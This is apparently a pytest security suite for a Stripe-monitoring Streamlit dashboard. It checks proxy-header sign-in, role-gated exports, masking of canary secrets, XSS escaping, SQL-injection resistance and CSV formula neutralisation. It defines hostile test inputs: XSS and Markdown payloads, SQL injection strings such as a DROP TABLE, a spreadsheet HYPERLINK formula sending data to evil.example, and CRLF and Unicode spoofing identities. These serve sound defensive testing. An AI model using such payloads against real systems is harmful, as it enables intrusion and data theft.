"""Access control, secrets and hostile input, through the real dashboard (issue 7).

One dashboard runs outside demo mode behind a trusted proxy header (`X-Forwarded-Email`, with the proxy's
shared secret in `X-Proxy-Secret`, both of which Playwright sends as the sign-in proxy would), over a Stripe emulator holding hostile customers and an app database on
the tests' PostgreSQL server; every secret it is given is a canary (the Stripe key, the webhook secret, the
Redis password, the app database's password (the test server trusts local connections, so any password
works), an alert URL's token, the sign-in proxy's shared secret). Chromium visits every page, the hostile customer's lookup, its finding and
its Activate dialog: no injected script runs, no injected element or link appears, and no canary is in any
page's HTML, text, WebSocket traffic or the server's log. SQL in the search boxes finds nothing and changes
nothing; finance downloads a CSV whose formulas are neutralised, a viewer cannot; Streamlit's own settings
stay as `.streamlit/config.toml` says.
"""

from __future__ import annotations

import csv
import io
import re
import time
import tomllib
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import create_engine, text
from streamlit.testing.v1 import AppTest

from monitor import actions, alerts, repair, store
from monitor.actions import EXPORT_JOB, Forbidden, authorize_export
from monitor.config import SETTINGS, load
from monitor.emulator import server
from tests.conftest import REPO_ROOT
from tests.services import free_port, run_cli
from tests.streamlit_server import CHROMIUM, dashboard, go, main_text, settle, sidebar_pages
from tests.stripe_cast import Account
from ui.text import to_csv

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.postgres]

KEY = "sk_test_CANARY7f3a9c1e55d04b2"
WEBHOOK_SECRET = "whsec_CANARY1b2c3d4e5f"
REDIS_PASSWORD = "pwCANARY9d8e7f6a"
DB_PASSWORD = "dbCANARY5e4d3c2b"
ALERT_TOKEN = "CANARYalerttoken42"
CANARY = "CANARY"
HEADER = "X-Forwarded-Email"
SECRET_HEADER = "X-Proxy-Secret"
PROXY_SECRET = "proxyCANARYsecret0123456789"
ROLES = "support@example.com=support,finance@example.com=finance,viewer@example.com=viewer"

EVIL_EMAIL = '"><img src=x onerror="window.__xss=1">@example.com'
EVIL_NAME = (
    '<img src=x onerror="window.__xss=2"> **bold** [link](javascript:alert(1)) :red[x] $x$ '
    "<script>window.__xss=3</script>" + "A" * 10_000
)
ODD_NAME = "\u202egnp.exe\u202c Zoë 😀 e\u0301\u0301\u0301 \u200b\u200d ﷽ " + "\u0663" * 50
EVIL_METADATA = {
    "note": "<script>window.__xss=4</script>",
    "link": "[click me](javascript:window.__xss=5)",
    "html": '<a href="javascript:window.__xss=6">x</a>',
}
FORMULA_EMAILS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")@example.com',
    "+1+2@example.com",
    "-2+3@example.com",
    "@SUM(A1)@example.com",
    "\tcmd@example.com",
)
SQL = (
    "' OR 1=1 --",
    "x@y' OR '1'='1",
    "1; DROP TABLE subscriptions; --",
    "' UNION SELECT id FROM subscriptions --",
)


def hostile_account(now: int) -> tuple[Account, dict, dict]:
    """Stripe objects whose names, e-mails, metadata and descriptions carry markup, Markdown, a 10,000-
    character name and odd Unicode; app rows whose e-mails are spreadsheet formulas or markup."""
    a = Account(now)
    evil = a.checkout_payment(EVIL_EMAIL)
    odd = a.checkout_payment("odd@example.com", age_s=7200)
    for obj in a.objects:
        if obj.get("id") in (evil["cus"], odd["cus"]):
            obj.update(
                name=EVIL_NAME if obj["id"] == evil["cus"] else ODD_NAME,
                description="<b>hostile</b> [x](javascript:alert(1))",
                metadata=EVIL_METADATA,
            )
        if obj.get("id") in (evil["cs"], evil["pi"], evil["ch"]):
            obj["metadata"] = EVIL_METADATA
            if obj["object"] != "checkout.session":
                obj["description"] = '**bold** <img src=x onerror="window.__xss=7">'
        if obj.get("id") == evil["cs"]:
            obj["customer_details"] = dict(obj["customer_details"], name=EVIL_NAME, email=EVIL_EMAIL)
    a.row(a.checkout_payment("fine@example.com"), "fine@example.com")
    a.row(None, "<script>window.__xss=8</script>@example.com")
    for email in FORMULA_EMAILS:
        a.row(None, email)
    return a, evil, odd


@dataclass
class Site:
    url: str
    log: Path
    env: dict[str, str]
    evil: dict
    odd: dict
    where: Path
    visits: dict[str, dict] = field(default_factory=dict)
    page_errors: list[str] = field(default_factory=list)

    def config(self):
        return load(self.env, toml_path=self.where / "no-monitor.toml")

    def counts(self) -> dict[str, int]:
        """Rows in every table a search could reach or harm, in both databases."""
        seen = {}
        for url, tables in (
            (self.env["APP_DATABASE_URL"], ("subscriptions", "webhook_events")),
            (
                self.env["MONITOR_DATABASE_URL"],
                (
                    "findings",
                    "repairs",
                    "repair_claims",
                    "job_runs",
                    "stripe_customers",
                    "stripe_checkout_sessions",
                ),
            ),
        ):
            engine = create_engine(url)
            try:
                with engine.connect() as conn:
                    for table in tables:
                        seen[table] = conn.execute(text(f"SELECT count(*) FROM {table}")).scalar()
            finally:
                engine.dispose()
        return seen


@pytest.fixture(scope="module")
def site(tmp_path_factory, postgres_server) -> Iterator[Site]:
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: `make system` installs Debian's chromium", pytrace=False)
    where = tmp_path_factory.mktemp("security")
    account, evil, odd = hostile_account(int(time.time()))
    name = postgres_server.create_database()
    app_url = f"postgresql://postgres:{DB_PASSWORD}@127.0.0.1:{postgres_server.port}/{name}"
    account.write_app_db(app_url)
    try:
        with server.start(account.objects, api_key=KEY) as stripe:
            env = {
                "STRIPE_API_KEY": KEY,
                "STRIPE_API_BASE": stripe.base_url,
                "WEBHOOK_SECRET": WEBHOOK_SECRET,
                "EXPECTED_WEBHOOK_URL": f"http://127.0.0.1:{free_port()}/stripe/webhook",
                "APP_DATABASE_URL": app_url,
                "MONITOR_DATABASE_URL": f"sqlite:///{where / 'monitor.db'}",
                "MONITOR_CONFIG": str(where / "no-monitor.toml"),
                "REDIS_URLS": f"channels=redis://:{REDIS_PASSWORD}@127.0.0.1:{free_port()}/0",
                "ALERT_URLS": f"json://127.0.0.1:{free_port()}/alerts?token={ALERT_TOKEN}",
                "OPERATOR_ROLES": ROLES,
                "TRUSTED_PROXY_HEADER": HEADER,
                "TRUSTED_PROXY_SECRET": PROXY_SECRET,
                "PROBE_INTERVAL": "3600",
            }
            for step in (["sync"], ["reconcile"], ["check"]):  # as an operator would, one process each
                done = run_cli(step, env)
                assert done.returncode in (0, 1, 2), done.stdout + done.stderr
            config = load(env, toml_path=where / "no-monitor.toml")
            engine = store.open_store(config.monitor_database_url)
            try:
                alerts.send_due_alerts(config, engine)  # to a closed port: recorded as failed, target masked
            finally:
                engine.dispose()
            with dashboard(env, where / "streamlit.log") as running:
                yield Site(running.url, running.log, env, evil, odd, where)
    finally:
        postgres_server.drop_database(name)


def as_operator(browser, who: str):
    """A browser context that sends `X-Forwarded-Email: who` and the proxy's secret on every request, as the
    sign-in proxy does."""
    context = browser.new_context(
        viewport={"width": 1400, "height": 1000},
        extra_http_headers={HEADER: who, SECRET_HEADER: PROXY_SECRET},
    )
    return context, context.new_page()


INJECTED = """() => ({
  xss: window.__xss || null,
  images: document.querySelectorAll("img[src='x'], img[src$='/x']").length,
  onerror: document.querySelectorAll("[onerror]").length,
  scripts: [...document.scripts].filter(s => s.textContent.includes("__xss")).length,
  javascript_links: document.querySelectorAll("a[href^='javascript:' i], a[href*='evil.example']").length,
  injected_bold: [...document.querySelectorAll("strong, b")].filter(e => e.textContent.trim() === "bold").length,
  overflow: (m => m ? m.scrollWidth - m.clientWidth : 0)(document.querySelector("[data-testid='stMain']")),
})"""


def record(page, visits: dict, name: str, frames: list) -> None:
    exceptions = page.locator("[data-testid='stException']")
    visits[name] = {
        "injected": page.evaluate(INJECTED),
        "html": page.content(),
        "text": page.locator("body").inner_text(),
        "frames": b"".join(f if isinstance(f, bytes) else f.encode() for f in frames),
        "exception": exceptions.first.inner_text()[:500] if exceptions.count() else None,
    }
    frames.clear()


@pytest.fixture(scope="module")
def visits(site, browser) -> dict[str, dict]:
    """Support visits every page, the hostile customer's lookup, its finding and its Activate dialog,
    keeping what each showed: the DOM's verdict on injection, the HTML, the text and the WebSocket frames."""
    context, page = as_operator(browser, "support@example.com")
    frames: list = []
    page.on("websocket", lambda ws: ws.on("framereceived", lambda payload: frames.append(payload)))
    page.on("pageerror", lambda e: site.page_errors.append(str(e)))
    go(page, site.url, "/")
    links = sidebar_pages(page)
    assert len(links) == 7, links
    for name, href in links.items():
        go(page, site.url, href)
        record(page, site.visits, name, frames)

    engine = create_engine(site.env["MONITOR_DATABASE_URL"])
    try:
        with engine.connect() as conn:
            finding = conn.execute(
                text("SELECT id FROM findings WHERE payment_id = :p"), {"p": site.evil["cs"]}
            ).scalar_one()
    finally:
        engine.dispose()
    go(page, site.url, f"{links['Discrepancies']}?finding={finding}")
    page.locator("[data-testid='stExpander']", has_text="Raw Stripe object").click()
    page.wait_for_timeout(500)
    record(page, site.visits, "hostile finding", frames)

    for label, query in (("hostile lookup", site.evil["cus"]), ("odd lookup", "odd@example.com")):
        go(page, site.url, links["Customer lookup"])
        box = page.locator("[data-testid='stTextInput'] input").first
        box.fill(query)
        box.press("Enter")
        settle(page)
        record(page, site.visits, label, frames)
    assert "Needs action" in site.visits["odd lookup"]["text"]

    go(page, site.url, links["Customer lookup"])
    box = page.locator("[data-testid='stTextInput'] input").first
    box.fill(site.evil["cus"])
    box.press("Enter")
    settle(page)
    page.locator("[data-testid='stMain'] button", has_text=re.compile(r"Activate$")).first.click()
    page.locator("[role='dialog']").wait_for(state="visible", timeout=30_000)
    settle(page)
    record(page, site.visits, "hostile activate dialog", frames)
    context.close()
    return site.visits


def test_streamlit_settings_keep_cors_xsrf_a_minimal_toolbar_and_reduced_error_details():
    settings = tomllib.loads((REPO_ROOT / ".streamlit" / "config.toml").read_text())
    assert settings["server"]["enableCORS"] is True
    assert settings["server"]["enableXsrfProtection"] is True
    assert settings["client"]["toolbarMode"] == "minimal"
    assert settings["client"]["showErrorDetails"] == "type"
    assert settings["client"]["disableDataExport"] is True  # exports only through the role-checked buttons
    assert settings["runner"]["magicEnabled"] is False


def test_no_page_renders_html_from_strings():
    """`unsafe_allow_html`, st.html and components would let a Stripe string become markup: none is used."""
    sources = [REPO_ROOT / "dashboard.py", *sorted((REPO_ROOT / "pages").glob("*.py"))]
    sources += sorted((REPO_ROOT / "ui").glob("*.py"))
    for path in sources:
        code = path.read_text()
        for forbidden in ("unsafe_allow_html=True", "st.html(", "components.v1", "st.components"):
            assert forbidden not in code, f"{path.name} uses {forbidden}"


def test_in_the_browser_no_injected_script_runs_and_no_injected_element_appears(site, visits):
    assert not site.page_errors
    assert len(visits) >= 11
    for name, seen in visits.items():
        assert seen["exception"] is None, f"{name}: {seen['exception']}"
        injected = seen["injected"]
        assert injected["xss"] is None, f"{name}: an injected script ran (window.__xss = {injected['xss']})"
        for what in ("images", "onerror", "scripts", "javascript_links", "injected_bold"):
            assert injected[what] == 0, f"{name}: {injected[what]} injected {what}"
        assert injected["overflow"] <= 5, (
            f"{name}: a long string widens the page by {injected['overflow']} px"
        )
    # The hostile text is there, as text: escaped, shortened, never interpreted.
    assert "<img src=x onerror=" in visits["hostile lookup"]["text"]
    assert "**bold** [link](javascript:alert(1))" in visits["hostile lookup"]["text"]
    assert "A" * 10_000 not in visits["hostile lookup"]["text"]  # a 10,000-character name is shortened
    assert "<img src=x onerror=" in visits["hostile finding"]["text"]
    assert EVIL_EMAIL in visits["hostile activate dialog"]["text"]


def test_no_canary_secret_reaches_a_page_its_traffic_or_the_server_log(site, visits):
    for name, seen in visits.items():
        for part in ("html", "text"):
            assert CANARY not in seen[part], f"{name}: a canary secret in the page's {part}"
        assert CANARY.encode() not in seen["frames"], f"{name}: a canary secret in the WebSocket traffic"
    # Not vacuous: the traffic searched holds what the pages showed, the settings table (drawn on a canvas,
    # so only in the traffic) among it, with each secret recognisable and masked.
    assert site.evil["cus"].encode() in visits["hostile lookup"]["frames"]
    settings = visits["Infrastructure"]["frames"]
    assert "Settings in force" in visits["Infrastructure"]["text"]
    for masked in (
        "sk_test_…04b2",
        "…4e5f",
        "redis://:****@127.0.0.1",
        "postgresql://postgres:****@127.0.0.1",
    ):
        assert masked.encode() in settings, masked
    assert CANARY not in site.log.read_text(errors="replace")


def test_sql_in_the_lookup_box_and_the_discrepancies_search_finds_nothing_and_changes_nothing(site, browser):
    before = site.counts()
    context, page = as_operator(browser, "support@example.com")
    go(page, site.url, "/")
    links = sidebar_pages(page)
    go(page, site.url, links["Customer lookup"])
    for query in SQL:
        box = page.locator("[data-testid='stTextInput'] input").first
        box.fill(query)
        box.press("Enter")
        settle(page)
        assert "Nothing is known about" in main_text(page), query
    go(page, site.url, links["Discrepancies"])
    for query in SQL:
        box = page.locator("[data-testid='stTextInput'] input").first
        box.fill(query)
        box.press("Enter")
        settle(page)
        assert re.search(r"\b0 findings\b", main_text(page)), query
    context.close()
    assert site.counts() == before


def test_finance_downloads_a_csv_with_formulas_neutralised_and_a_viewer_cannot(site, browser):
    context, page = as_operator(browser, "finance@example.com")
    go(page, site.url, "/")
    go(page, site.url, sidebar_pages(page)["Finance"])
    button = (
        page.locator("[data-testid='stDownloadButton']", has_text="Active without a payment")
        .locator("button")
        .first
    )
    assert button.is_enabled()
    with page.expect_download(timeout=30_000) as download:
        button.click()
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
    context.close()
    emails = {r["customer_email"] for r in rows}
    assert {f"'{e}" for e in FORMULA_EMAILS} <= emails, emails
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or re.fullmatch(r"-[0-9.]+", cell), row

    context, page = as_operator(browser, "viewer@example.com")
    go(page, site.url, "/")
    go(page, site.url, sidebar_pages(page)["Finance"])
    buttons = page.locator("[data-testid='stDownloadButton']")
    buttons.nth(3).wait_for(state="attached", timeout=30_000)
    assert buttons.count() == 4
    assert all(buttons.nth(i).locator("button").first.is_disabled() for i in range(4))
    context.close()

    engine = store.open_store(site.env["MONITOR_DATABASE_URL"])
    try:
        assert authorize_export(engine, site.config(), "finance@example.com", "totals.csv", 3) == "finance"
        with pytest.raises(Forbidden, match=r"viewer@example.com may not export data \(role viewer"):
            authorize_export(engine, site.config(), "viewer@example.com", "totals.csv", 3)
        with pytest.raises(Forbidden, match="not in OPERATOR_ROLES"):
            authorize_export(engine, site.config(), "stranger@example.com", "totals.csv", 3)
        with engine.connect() as conn:
            runs = [
                tuple(r)
                for r in conn.execute(
                    text(f"SELECT outcome, counts FROM job_runs WHERE job = '{EXPORT_JOB}'")
                )
            ]
    finally:
        engine.dispose()
    assert [o for o, c in runs if "finance@example.com" in c] == ["ok", "ok"]  # the browser's, then this one
    assert [o for o, c in runs if "viewer@example.com" in c] == ["failed"]
    assert [o for o, c in runs if "stranger@example.com" in c] == ["failed"]


def test_support_may_activate_a_viewer_may_not_and_the_monitor_says_so(site):
    result = repair.activate(site.config(), site.odd["cs"], "viewer@example.com", dry_run=True)
    assert result.outcome == "refused" and "role viewer" in result.reason
    result = repair.activate(site.config(), site.odd["cs"], "support@example.com", dry_run=True)
    assert result.outcome == "planned", result.reason


def test_without_the_proxy_header_nobody_gets_in_and_unknown_people_are_refused(site, browser):
    context = browser.new_context()
    page = context.new_page()
    go(page, site.url, "/")
    said = main_text(page)
    assert "Nobody is signed in" in said and SECRET_HEADER in said and "USD" not in said
    context.close()
    context = browser.new_context(extra_http_headers={SECRET_HEADER: PROXY_SECRET})
    page = context.new_page()
    go(page, site.url, "/")
    said = main_text(page)
    assert "Nobody is signed in" in said and HEADER in said and "USD" not in said
    context.close()
    context, page = as_operator(browser, "stranger@example.com")
    go(page, site.url, "/")
    assert "stranger@example.com may not use the dashboard" in main_text(page)
    context.close()
    context = browser.new_context(
        extra_http_headers={HEADER: "viewer@example.com, support@example.com", SECRET_HEADER: PROXY_SECRET}
    )
    page = context.new_page()
    go(page, site.url, "/")
    assert "more than once" in main_text(page)
    context.close()


# --- error details and a broken app database, in-process -----------------------------------------------


def test_an_unexpected_error_shows_only_its_type_outside_the_demo(site, browser, tmp_path):
    boom = tmp_path / "boom.py"
    boom.write_text(
        "from ui import context\n"
        "context.page('Boom', ':material/error:')\n"
        "raise RuntimeError('detail-that-must-stay-on-the-server')\n"
    )
    env = {k: v for k, v in site.env.items() if k != "TRUSTED_PROXY_HEADER"}  # read-only: the page runs
    with dashboard(env, tmp_path / "boom.log", script=str(boom)) as running:
        context = browser.new_context()
        page = context.new_page()
        go(page, running.url, "/")
        shown = page.locator("[data-testid='stException']").first.inner_text()
        context.close()
    assert "RuntimeError" in shown
    assert "detail-that-must-stay-on-the-server" not in shown and "boom.py" not in shown


@pytest.fixture
def use(monkeypatch, tmp_path):
    def apply(**settings: str) -> None:
        for name in {s.name for s in SETTINGS}:
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv("MONITOR_CONFIG", str(tmp_path / "no-monitor.toml"))
        for name, value in settings.items():
            monkeypatch.setenv(name, value)

    return apply


def test_error_details_are_full_in_the_demo_and_reduced_outside_it(use, tmp_path):
    import streamlit

    script = "from ui import context\ncontext._error_details(context.config())\n"
    databases = {
        "APP_DATABASE_URL": f"sqlite:///{tmp_path / 'app.db'}",
        "MONITOR_DATABASE_URL": f"sqlite:///{tmp_path / 'monitor.db'}",
    }
    use(**databases)
    AppTest.from_string(script).run()
    assert streamlit.get_option("client.showErrorDetails") == "full"
    use(STRIPE_API_KEY=KEY, **databases)
    AppTest.from_string(script).run()
    assert streamlit.get_option("client.showErrorDetails") == "type"


def test_pages_mask_secrets_when_the_app_database_cannot_be_reached(use, tmp_path):
    """A PostgreSQL URL with a canary password, at a closed port: every error the pages show is masked."""
    use(
        STRIPE_API_KEY=KEY,
        STRIPE_API_BASE=f"http://127.0.0.1:{free_port()}",
        WEBHOOK_SECRET=WEBHOOK_SECRET,
        APP_DATABASE_URL=f"postgresql://app:{DB_PASSWORD}@127.0.0.1:{free_port()}/app",
        MONITOR_DATABASE_URL=f"sqlite:///{tmp_path / 'monitor.db'}",
        REDIS_URLS=f"channels=redis://:{REDIS_PASSWORD}@127.0.0.1:{free_port()}/0",
        ALERT_URLS=f"json://127.0.0.1:{free_port()}/alerts?token={ALERT_TOKEN}",
        OPERATOR_ROLES="support@example.com=support",
    )
    shown = []

    def seen(at: AppTest, where: str) -> None:
        parts = [e.value for e in (*at.markdown, *at.text, *at.caption, *at.error, *at.warning, *at.info)]
        parts += [e.value for e in (*at.success, *at.code)] + [e.message for e in at.exception]
        parts += [df.value.to_csv() for df in at.dataframe]
        shown.append(f"{where}: " + "\n".join(str(p) for p in parts))

    # Read-only (no sign-in): "Run checks now" is off on the page, so support runs it through the monitor
    # function the button calls: sync, reconcile and probe each fail, and say why.
    ran = actions.run_checks_now(load(), lambda step, fraction: None, operator="support@example.com")
    assert not ran["ok"] and len(ran["errors"]) >= 2, ran
    shown.append("Run checks now: " + "\n".join(ran["errors"]))
    overview = AppTest.from_file(REPO_ROOT / "dashboard.py", default_timeout=60).run()
    assert overview.button(key="run-checks").disabled
    seen(overview, "overview after Run checks now")
    for page, query in (
        ("pages/2_Customer_lookup.py", {"q": "someone@example.com"}),
        ("pages/3_Webhooks.py", {}),
        ("pages/4_Infrastructure.py", {}),
        ("pages/6_Audit_log.py", {}),
    ):
        at = AppTest.from_file(REPO_ROOT / page, default_timeout=60)
        at.query_params.update(query)
        seen(at.run(), page)
    everything = "\n".join(shown)
    assert "postgresql://app:****@127.0.0.1" in everything  # the app database, named with its password masked
    assert "redis://:****@127.0.0.1" in everything
    assert CANARY not in everything
    assert "sk_test_…04b2" in everything  # the key, recognisable and masked, on the settings table


def test_csv_export_neutralises_every_formula_start_and_keeps_numbers():
    cells = [*FORMULA_EMAILS, "\rx", "ok@example.com"]
    written = to_csv(pd.DataFrame({"email": cells, "amount": [-1.0] * len(cells)})).decode()
    rows = list(csv.reader(io.StringIO(written)))
    assert rows[0] == ["email", "amount"]
    assert [r[0] for r in rows[1:]] == [f"'{c}" for c in cells[:-1]] + ["ok@example.com"]
    assert {r[1] for r in rows[1:]} == {"-1.0"}  # a negative number is a number, not a formula


@pytest.mark.parametrize(
    ("given", "taken"),
    [
        ("support@example.com", "support@example.com"),
        ("Support@Example.com", "Support@Example.com"),  # OPERATOR_ROLES matches it case-insensitively
        ("zoë@example.com", "zoë@example.com"),
        ("support@example.com\u200b", None),  # invisible: would read as support@example.com
        ("\u212aate@example.com", None),  # the Kelvin sign lower-cases to "k": kate@example.com
        ("support@example.com evil", None),
        ("support@example.com\r\nX-Other: 1", None),
        ("a" * 321, None),
        ("", None),
    ],
)
def test_an_identity_is_taken_as_given_or_refused_never_cleaned_into_someone_else(given, taken):
    from ui.context import _identity

    assert _identity(given)[0] == taken
